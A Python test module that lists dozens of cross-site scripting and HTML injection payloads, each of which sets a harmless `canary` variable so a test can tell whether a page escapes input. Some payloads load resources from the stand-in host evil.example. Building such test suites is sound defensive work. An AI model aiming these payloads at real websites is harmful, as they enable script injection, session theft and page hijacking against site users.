"""Text that runs, or changes the page, wherever it is put into a page as anything but text.

Each sets the global `canary` when it runs; those that run nothing add elements or attributes that no page has.
"""

SCRIPTS = (
    "<script>canary=1</script>",
    "<ScRiPt >canary=1</sCrIpT>",
    "</script><script>canary=1</script>",
    "</title><script>canary=1</script>",
    "</textarea><script>canary=1</script>",
    "--><script>canary=1</script><!--",
    "]]><script>canary=1</script>",
    "<script src=data:text/javascript,canary=1></script>",
    "<script/x>canary=1</script/x>",
    "<scr<script>ipt>canary=1</scr</script>ipt>",
    "\u2028<script>canary=1</script>\u2029",
    "</option></select></datalist><script>canary=1</script>",
)
HANDLERS = (
    "<img src=x onerror=canary=1>",
    "<img src=/ onerror=canary=1>",
    '<img src="x"onerror="canary=1">',
    "<img/src=x/onerror=canary=1//",
    "<<img src=x onerror=canary=1>>",
    "<svg onload=canary=1>",
    "<svg/onload=canary=1>",
    "<svg><script>canary=1</script></svg>",
    "<svg><animate onbegin=canary=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary=1><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x></use></svg>",
    "<details open ontoggle=canary=1>x</details>",
    "<input autofocus onfocus=canary=1>",
    "<video><source onerror=canary=1></video>",
    "<audio src=x onerror=canary=1></audio>",
    "<body onload=canary=1>",
    "<marquee onstart=canary=1>x</marquee>",
    "<x onclick=canary=1 tabindex=1 id=x>x</x>",
    "<button popovertarget=x onbeforetoggle=canary=1>x</button>",
    "<p style=animation-name:x onanimationstart=canary=1>x</p>",
)
BREAKOUTS = (
    '"><script>canary=1</script>',
    "'><script>canary=1</script>",
    '"><img src=x onerror=canary=1>',
    '" autofocus onfocus="canary=1',
    "' autofocus onfocus='canary=1",
    '" onmouseover=canary=1 x="',
    '" style="position:fixed" onpointerover="canary=1',
    "x onerror=canary=1 y=",
    "`-canary=1-`",
    "';canary=1;//",
    '";canary=1;//',
    '\\";canary=1;//',
    "${canary=1}",
)
ADDRESSES = (
    "javascript:canary=1",
    "JaVaScRiPt:canary=1",
    "java\tscript:canary=1",
    "\x01javascript:canary=1",
    " javascript:canary=1",
    "javascript&colon;canary=1",
    "&#106;avascript:canary=1",
    "&#x6A&#x61vascript:canary=1",
    "data:text/html,<script>opener.canary=1</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==",
    "vbscript:canary=1",
    "//evil.example/canary",
    "javascript://news.example/%0acanary=1",
    'https://news.example/"onclick="canary=1',
    "[a link](javascript:canary=1)",
    '![a picture](x"onerror="canary=1)',
    "<javascript:canary=1>",
    "[a]: javascript:canary=1",
)
FRAMES = (
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src=javascript:parent.canary=1></iframe>",
    "<object data=javascript:canary=1></object>",
    "<embed src=javascript:canary=1>",
    "<meta http-equiv=refresh content='0;url=javascript:canary=1'>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/canary.css>",
    "<form action=javascript:canary=1><button>x</button></form>",
    "<a href=javascript:canary=1>x</a>",
    "<style>*{display:none}</style>",
    "<p style=background:url(//evil.example/canary)>x</p>",
    "<a id=canary name=canary>x</a>",
)
SUBTLE = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=canary=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary=1>",
    '<svg></p><style><a id="</style><img src=1 onerror=canary=1>">',
    "<template><script>canary=1</script></template>",
    "＜script＞canary=1＜/script＞",
    "\u202e<img src=x onerror=canary=1>",
    "&lt;script&gt;canary=1&lt;/script&gt;",
    "&#60;img src=x onerror=canary=1&#62;",
    "%3Cscript%3Ecanary=1%3C/script%3E",
    "\\u003cscript\\u003ecanary=1\\u003c/script\\u003e",
    "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
)
HTMX = (
    "<p hx-get=/healthz hx-trigger=load hx-on:htmx:after:swap=canary=1>x</p>",
    "<p hx-on:click=canary=1 hx-trigger=load>x</p>",
    '" hx-get="/healthz" hx-trigger="load" x="',
    '" hx-on::load="canary=1" data-hx-on:click="canary=1',
    "<p data-hx-get=//evil.example/ data-hx-trigger=load>x</p>",
)
TEMPLATES = ("{{7*7}}-{{canary}}", "{% raw %}{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "%(n)s %s %d {0}")
PAYLOADS = (*SCRIPTS, *HANDLERS, *BREAKOUTS, *ADDRESSES, *FRAMES, *SUBTLE, *HTMX, *TEMPLATES)

INERT = frozenset({*SUBTLE[5:6], *SUBTLE[7:], *TEMPLATES, *BREAKOUTS[8:], "[a link](javascript:canary=1)"})
"""Dangerous only where something decodes, fills or runs them first: as text of a page they are text."""


def batches(most: int) -> tuple[str, ...]:
    """All payloads, some on a line with a space between, in lines of up to `most` characters."""
    lines = [""]
    for payload in PAYLOADS:
        if len(lines[-1]) + len(payload) >= most:
            lines.append("")
        lines[-1] = f"{lines[-1]} {payload}".strip(" ")
    return tuple(lines)
